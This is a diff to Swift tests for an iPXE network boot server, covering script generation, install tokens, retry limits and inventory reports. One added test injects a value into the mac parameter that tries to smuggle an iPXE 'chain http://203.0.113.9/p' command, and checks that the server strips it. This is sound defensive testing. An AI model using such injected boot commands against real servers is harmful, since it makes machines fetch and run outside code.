@@ -67,13 +67,18 @@ struct BootServerTests {
                 let (badStatus, badScript) = try await get(client, bad)
                 #expect(badStatus == .ok)
                 #expect(badScript.hasPrefix("#!ipxe\necho dploy: /boot.ipxe needs ?mac="))
+                #expect(!badScript.contains(";"), "iPXE would split the echo into commands")
                 #expect(badScript.hasSuffix("\nexit\n"))
                 #expect(badScript.split(separator: "\n").count == 3, "nothing from the request becomes a command")
             }
             let (_, entry) = try await get(client, "/boot.ipxe")
             #expect(entry.contains("chain --autofree http://198.18.0.1:8080/boot.ipxe?mac=${net0/mac}"))
+            // iPXE splits commands at ';': nothing but hex, ':' and '-' is echoed back.
+            let (_, injected) = try await get(client, "/boot.ipxe?mac=x%20;%20chain%20http://203.0.113.9/p%20%23")
+            #expect(!injected.contains(";") && !injected.contains("chain http"))
         }
-        #expect(try lab.store().machine(Self.strangerMAC)?.state == .discovered)
+        // Any client can ask for any MAC: strangers are written down only when they report.
+        #expect(try lab.store().machine(Self.strangerMAC) == nil)
     }
 
     @Test("inventory: a real lshw report is stored; malformed, mistyped and oversized reports are refused and change nothing")
@@ -144,6 +149,11 @@ struct BootServerTests {
             #expect(otherMachine == .forbidden)
             #expect(try lab.store().machine(Self.web01)?.state == .installing)
 
+            // A generation git does not ask for is refused even with a valid token.
+            let (stale, _) = try await post(client, "/v1/machines/94-18-82-3a-5c-10/installed?generation=7&token="
+                                            + key.token(mac: Self.web01, generation: 7))
+            #expect(stale == .conflict)
+
             let (done, _) = try await post(client, callback + "&token=" + key.token(mac: Self.web01, generation: 0))
             #expect(done == .noContent)
             let (replayed, replayText) = try await post(client, callback + "&token=" + key.token(mac: Self.web01, generation: 0))
@@ -163,18 +173,24 @@ struct BootServerTests {
     }
 
     @Test("an install that never calls back is tried N times, then marked failed, and the machine boots local")
-    func retryLimit() async throws {
+    func retryLimit() throws {
         let lab = try Lab()
-        let app = Application(router: try lab.server(maxAttempts: 2).router())
-        try await app.test(.live) { client in
-            for _ in 0..<2 {
-                let (_, script) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10")
-                #expect(script.contains("installing web-01"))
-            }
-            for _ in 0..<2 {
-                let (_, script) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10")
-                #expect(script.contains("boots its local disk"))
-            }
+        let decisions = BootDecisions(desired: try lab.reconciler.loadDesired(), store: try lab.store(),
+                                      server: try lab.reconciler.settings.server, discovery: nil, maxAttempts: 2)
+        let start = Date()
+        // Requests within the attempt window are the same attempt, however many there are.
+        for second in 0..<5 {
+            let script = try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: start.addingTimeInterval(Double(second)))
+            #expect(script.contains("installing web-01"))
+        }
+        #expect(try lab.store().installAttempts(Self.web01).count == 1)
+        // A boot after the window is a new attempt; after the second, the generation fails.
+        let later = start.addingTimeInterval(BootDecisions.attemptWindow + 1)
+        #expect(try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: later).contains("installing web-01"))
+        let muchLater = later.addingTimeInterval(BootDecisions.attemptWindow + 1)
+        for offset in 0..<2 {
+            let script = try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: muchLater.addingTimeInterval(Double(offset)))
+            #expect(script.contains("boots its local disk"))
         }
         let store = try lab.store()
         #expect(try store.machine(Self.web01)?.state == .failed)
@@ -218,8 +234,10 @@ struct BootServerTests {
     func machines() async throws {
         let lab = try Lab()
         let app = Application(router: try lab.server().router())
+        let dell = Array(try Data(contentsOf: Self.repositoryRoot.appendingPathComponent(
+            "Tests/DployInventoryTests/Fixtures/lshw/dell-poweredge-r6515-lshw-B.02.18.85-reformatted.json")))
         try await app.test(.live) { client in
-            _ = try await get(client, "/boot.ipxe?mac=\(Self.stranger)")
+            _ = try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell)
             let (status, body) = try await get(client, "/v1/machines")
             #expect(status == .ok)
             let rows = try #require(try JSONSerialization.jsonObject(with: Data(body.utf8)) as? [[String: Any]])
